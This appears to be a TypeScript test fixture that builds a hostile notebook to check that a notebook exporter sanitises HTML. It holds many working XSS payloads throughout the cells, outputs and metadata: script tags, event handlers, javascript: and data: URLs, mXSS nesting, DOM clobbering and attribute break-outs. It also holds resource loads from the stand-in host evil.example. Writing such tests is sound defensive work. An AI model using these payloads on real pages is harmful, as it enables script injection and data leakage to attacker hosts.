/**
 * A notebook that attacks the exporter: every way its text reaches a page, with script,
 * event handlers, `javascript:`/`data:` URLs, network loads and attribute break-outs, next to
 * benign content (math, a Plotly figure, tables, `<details>`) that must still render.
 * Each attack calls `alert(n)` or loads from `evil.example`, so a test can see it fire.
 */
import type { Notebook, Output } from "../tools/notebook/io.ts";
import * as plot from "@kit/plot.ts";

const X = (n: number) => `<img src=x onerror=alert(${n})>`;

/** The hostile notebook (in memory: it need not pass validation). */
export function hostileNotebook(): Notebook {
  plot.resetFigureIds();
  const fig = plot.line([1, 2, 3], { title: "Benign figure" }).toMimeBundle() as unknown as Record<
    string,
    unknown
  >;
  const json = fig["application/vnd.plotly.v1+json"] as {
    layout: Record<string, unknown>;
    config?: Record<string, unknown>;
  };
  // Plotly text with a javascript: link, an image from the network, a config that loads.
  json.layout.annotations = [{
    text: '<a href="javascript:alert(30)">annotation link</a></script><script>alert(31)</script>',
    x: 0.5,
    y: 0.5,
    xref: "paper",
    yref: "paper",
  }];
  json.layout.images = [{
    source: "https://evil.example/plotly.png",
    x: 0,
    y: 1,
    sizex: 1,
    sizey: 1,
  }];
  json.config = { topojsonURL: "https://evil.example/topo/", mapboxAccessToken: "x" };
  const out = (data: Record<string, unknown>): Output => ({
    output_type: "display_data",
    data,
    metadata: {},
  });
  const cells = [
    {
      cell_type: "markdown",
      metadata: {},
      source: `# Hostile ${X(1)} notebook<script>alert(2)</script>\n\n` +
        `Summary with math $x^2$ and <svg onload=alert(3)></svg> <a href="javascript:alert(4)">a link</a>.`,
    },
    {
      cell_type: "markdown",
      metadata: {},
      attachments: {
        "a.png": { "image/png": '" onerror="alert(5)' },
        "b.html": { "text/html": "<script>alert(6)</script>" },
      },
      source: [
        '## Section <iframe srcdoc="<script>parent.alert(7)</script>"></iframe> with $\\alpha$\n',
        "\n",
        `<script>alert(8)</script>${X(9)}<a href="JaVaScRiPt:alert(10)">x</a>`,
        `<a href="data:text/html,<script>alert(11)</script>">d</a>`,
        `<a href="&#106;avascript:alert(12)">entity</a>`,
        `<meta http-equiv="refresh" content="0;url=javascript:alert(13)">`,
        `<base href="https://evil.example/">`,
        `<link rel="stylesheet" href="https://evil.example/x.css">`,
        `<img src="https://evil.example/track.png">`,
        `<div style="background:url(https://evil.example/bg.png)">styled</div>`,
        `<form action="https://evil.example/"><button>send</button></form>`,
        `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">`,
        `<math><mtext><table><mglyph><style><img src=x onerror=alert(14)></style></mglyph></table></mtext></math>`,
        `<h2 id="Plotly">clobber</h2><a id="kitPreparePrint" name="Plotly">c</a>`,
        "\n\n![att](attachment:a.png) ![att2](attachment:b.html)\n\n",
        '```ts"><img src=x onerror=alert(15)>\nconst x = 1;\n```\n\n',
        "| benign | table |\n|---|--:|\n| $a_1$ | 2 |\n\n",
        "<details><summary>Benign details</summary><kbd>Ctrl</kbd> and H<sub>2</sub>O</details>\n",
      ],
    },
    {
      cell_type: "code",
      metadata: { tags: "not-a-list" },
      execution_count: `1</div>${X(16)}`,
      source: "figure",
      outputs: [
        out(fig),
        out({
          "text/html":
            `<script>alert(17)</script><table class="dataframe"><tr><td onclick="alert(18)">html table</td></tr></table>`,
        }),
        out({ "text/markdown": `**md** ${X(19)} $y$` }),
        out({ "image/png": `AAAA" onerror="alert(20)` }),
        out({
          "image/svg+xml":
            `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(21)"><script>alert(22)</script><image href="https://evil.example/s.png"/></svg>`,
        }),
        out({ "text/latex": "$$\\href{javascript:alert(23)}{click}$$" }),
        { output_type: "stream", name: `stdout">${X(24)}<pre class="`, text: `${X(25)}` },
        {
          output_type: "error",
          ename: `E${X(26)}`,
          evalue: X(27),
          traceback: [`\x1b[31m${X(28)}\x1b[0m`],
        },
      ],
    },
  ];
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {
      kernelspec: { name: "deno", display_name: `Deno${X(29)}`, language: "typescript" },
      kit: { status: "error", failed_cell: `3"><img src=x onerror=alert(32)>` },
    },
    cells,
  } as unknown as Notebook;
}
